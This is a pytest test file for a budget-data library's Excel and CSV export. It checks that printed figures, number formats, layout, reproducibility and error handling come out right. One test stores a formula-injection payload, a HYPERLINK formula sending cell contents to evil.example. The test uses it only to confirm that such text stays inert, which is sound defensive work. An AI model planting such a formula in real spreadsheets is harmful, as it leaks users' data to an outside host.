"""``budgetlib export``: the workbook and CSV hold the documents' figures as printed, and are safe to open."""

from __future__ import annotations

import csv
import io
import math
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

import budgetlib
from budgetlib.cli import EXIT_BAD_INPUT, EXIT_OK, main
from budgetlib.dataset import Dataset
from budgetlib.display import FINDING_HEADERS
from budgetlib.export import FIGURE_HEADERS, ExportError, export
from budgetlib.findings import STATUS_LABELS
from budgetlib.numbers import decimals_of, parse_number, parse_unit
from tests.conftest import DATA_DIR, edit_csv

VARMLAND = "Region Värmland"


def rows_of(sheet: Worksheet) -> list[dict[str, Any]]:
    """Each row's cells by header; a cell's value is whatever the workbook holds, so typed as Any."""
    header = [str(cell.value) for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def source_lines(source_file: str) -> list[str]:
    return (DATA_DIR / "sources" / source_file).read_text(encoding="utf-8").splitlines()


@pytest.fixture(scope="module")
def everything(tmp_path_factory: pytest.TempPathFactory) -> openpyxl.Workbook:
    (path,) = export(budgetlib.load(DATA_DIR), tmp_path_factory.mktemp("export"))
    return openpyxl.load_workbook(path)


def test_the_summa_line_of_003_is_in_the_workbook_as_printed(everything: openpyxl.Workbook) -> None:
    source_file = "003_7568518892398882.txt"
    lines = source_lines(source_file)
    summa = next(i for i, line in enumerate(lines, start=1) if line.startswith("Summa "))
    rows = [
        r
        for r in rows_of(everything["Uppgifter"])
        if r["Källfil"].value == source_file and r["Rad i källfilen"].value == summa
    ]
    assert [r["Radrubrik"].value for r in rows] == ["Summa"] * 3
    printed = [r["Tryckt värde"].value for r in rows]
    assert " ".join(["Summa", *printed]) == lines[summa - 1].strip()
    assert [r["Värde"].value for r in rows] == [parse_number(p) for p in printed]
    assert [r["Värde"].number_format for r in rows] == ["#,##0"] * 3
    assert {r["Dokument"].value for r in rows} == {"003"}  # text: the leading zeros stay


def test_every_figure_stands_on_its_source_line(everything: openpyxl.Workbook, dataset: Dataset) -> None:
    rows = rows_of(everything["Uppgifter"])
    assert len(rows) == len(dataset.figures)
    for r in rows:
        printed, unit = r["Tryckt värde"].value, r["Tryckt enhet"].value
        line = source_lines(r["Källfil"].value)[r["Rad i källfilen"].value - 1]
        assert "".join(printed.split()) in "".join(line.split()), (printed, line)
        value = r["Värde"].value
        assert isinstance(value, int | float) and r["Värde"].data_type == "n"
        assert math.isclose(abs(value), abs(parse_number(printed)) * parse_unit(unit).factor, abs_tol=1e-9)
        if parse_unit(unit).factor == 1:  # shown with the decimals the document prints
            decimals = decimals_of(printed)
            assert r["Värde"].number_format == "#,##0" + ("." + "0" * decimals if decimals else "")


def test_kronor_are_shown_in_mkr_without_trailing_zeros(everything: openpyxl.Workbook) -> None:
    kronor = [r for r in rows_of(everything["Uppgifter"]) if r["Tryckt enhet"].value == "kronor"]
    assert kronor
    for r in kronor:
        expected = parse_number(r["Tryckt värde"].value) / 1e6
        shown = f"{expected:.6f}".rstrip("0")
        assert r["Värde"].value == pytest.approx(expected)
        assert r["Värde"].number_format == "#,##0." + "0" * len(shown.split(".")[1])


def test_layout_for_controllers(everything: openpyxl.Workbook) -> None:
    assert everything.sheetnames == ["Uppgifter", "Avstämning", "Om"]
    figures = everything["Uppgifter"]
    assert [c.value for c in figures[1]] == list(FIGURE_HEADERS.values())
    for sheet in everything:
        assert sheet.freeze_panes == "A2"
        assert all(c.font.bold for c in sheet[1])
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(sheet.max_column)}{sheet.max_row}"
        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
    headers = enumerate(figures[1], start=1)
    widths = {c.value: figures.column_dimensions[get_column_letter(i)].width for i, c in headers}
    assert widths["Radrubrik"] > widths["Nämnd"] and max(widths.values()) <= 60
    years = [r["År"] for r in rows_of(figures)]
    assert {y.number_format for y in years} == {"0"} and all(isinstance(y.value, int) for y in years)


def test_findings_keep_check_wording_with_numbers_as_numbers(
    everything: openpyxl.Workbook, dataset: Dataset
) -> None:
    findings = list(budgetlib.reconcile(dataset))
    rows = rows_of(everything["Avstämning"])
    assert [c.value for c in everything["Avstämning"][1]][:11] == list(FINDING_HEADERS.values())
    assert len(rows) == len(findings)
    for finding, row in zip(findings, rows, strict=True):
        assert row["Status"].value == STATUS_LABELS[finding.status]
        assert row["Samband"].value == finding.relation
        for field, header in (("expected", "Angivet"), ("difference", "Skillnad")):
            number = getattr(finding, field)
            if math.isnan(number):
                assert row[header].value is None
            else:
                assert row[header].value == pytest.approx(number) and row[header].data_type == "n"
    slips = [r for r in rows if r["Status"].value == "enhetsfel"]
    assert slips and all(r["Angivet"].number_format == "#,##0.0" for r in slips)  # 9,1 and 0,7 mnkr


def test_about_sheet_names_the_documents_and_the_data_date(tmp_path: Path, dataset: Dataset) -> None:
    region = "Region Jämtland Härjedalen"
    (path,) = export(dataset, tmp_path, region)
    about = {r["Uppgift"].value: r["Värde"].value for r in rows_of(openpyxl.load_workbook(path)["Om"])}
    documents = dataset.select(region).documents
    assert about["Urval"] == region
    for doc_id, diarienummer in zip(documents["doc_id"], documents["diarienummer"], strict=True):
        assert diarienummer in about[f"Dokument {doc_id}"]
    newest = documents["date"].max().strftime("%Y-%m-%d")
    assert about["Senaste datum i dokumenten"] == newest
    with zipfile.ZipFile(path) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert f"{newest}T00:00:00Z" in core


def test_the_same_data_gives_the_same_bytes(tmp_path: Path, dataset: Dataset) -> None:
    (first,) = export(dataset, tmp_path / "a", VARMLAND)
    (second,) = export(dataset, tmp_path / "b", VARMLAND)
    assert first.read_bytes() == second.read_bytes()
    assert [p.name for p in (tmp_path / "a").iterdir()] == ["region-varmland.xlsx"]  # no temporary left


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def test_text_from_data_never_becomes_a_formula(data_copy: Path, tmp_path: Path) -> None:
    edit_csv(data_copy / "amounts.csv", ",Ram 2024,", f',"{HOSTILE.replace(chr(34), chr(34) * 2)}",')
    edit_csv(data_copy / "amounts.csv", ",Läkemedel,", ",-2+3,")
    dataset = budgetlib.load(data_copy)
    (xlsx,) = export(dataset, tmp_path, VARMLAND)
    cells = {r["Radrubrik"].value: r["Radrubrik"] for r in rows_of(openpyxl.load_workbook(xlsx)["Uppgifter"])}
    for text in (HOSTILE, "-2+3"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    with zipfile.ZipFile(xlsx) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()

    figures, _ = export(dataset, tmp_path, VARMLAND, output_format="csv")
    table = list(csv.DictReader(io.StringIO(figures.read_bytes().decode("utf-8-sig")), delimiter=";"))
    labels = {r["Radrubrik"] for r in table}
    assert "'" + HOSTILE in labels and "'-2+3" in labels and HOSTILE not in labels
    printed = {r["Tryckt värde"] for r in table}
    assert "-324" in printed  # a plain number as printed is no formula and stays as it is


def test_csv_for_a_swedish_excel(tmp_path: Path, dataset: Dataset) -> None:
    assert main(["export", "--region", VARMLAND, "--format", "csv", "--out", str(tmp_path)]) == EXIT_OK
    figures = tmp_path / "region-varmland-uppgifter.csv"
    raw = figures.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    expected = dataset.select(VARMLAND).figures
    assert len(table) == len(expected)
    by_id = {r["Uppgifts-id"]: r for r in table}
    for figure in expected.to_dict("records"):
        shown = by_id[figure["figure_id"]]["Värde"]
        assert " " not in shown and "." not in shown  # decimal comma, no grouping: Excel reads a number
        assert parse_number(shown) == pytest.approx(figure["value"])
    findings = (tmp_path / "region-varmland-avstamning.csv").read_bytes().decode("utf-8-sig")
    assert findings.splitlines()[0].split(";")[:3] == ["Dokument", "Kontroll", "Samband"]


def test_bad_selection_or_folder_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--namnd", "XYZ", "--out", str(tmp_path)]) == EXIT_BAD_INPUT
    assert main(["export", "--region", VARMLAND, "--namnd", "RS", "--out", str(tmp_path)]) == EXIT_BAD_INPUT
    not_a_folder = tmp_path / "fil"
    not_a_folder.write_text("x")
    assert main(["export", "--out", str(not_a_folder)]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert "okänt värde för namnd" in err and "inga dokument" in err and str(not_a_folder) in err
    assert "Traceback" not in err and sorted(p.name for p in tmp_path.iterdir()) == ["fil"]


def test_refuses_a_file_name_that_leads_outside_the_folder(tmp_path: Path, dataset: Dataset) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere.xlsx"
    out.mkdir()
    (out / "region-varmland.xlsx").symlink_to(elsewhere)
    with pytest.raises(ExportError, match="utanför"):
        export(dataset, out, VARMLAND)
    assert not elsewhere.exists()
